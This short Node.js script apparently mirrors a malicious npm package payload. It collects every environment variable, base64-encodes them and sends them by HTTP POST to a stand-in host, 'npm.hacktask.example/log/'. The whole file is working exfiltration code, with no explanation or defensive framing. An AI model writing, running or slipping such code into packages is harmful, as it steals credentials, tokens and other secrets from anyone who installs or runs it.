const http = require('http')
const querystring = require('querystring')
const host = 'npm.hacktask.example'
const env = JSON.stringify(process.env)
const data = new Buffer(env).toString('base64')
const postData = querystring.stringify({ data })
const options = { hostname: host, port: 80, path: '/log/', method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(postData) } }
const req = http.request(options)
req.write(postData)
req.end()
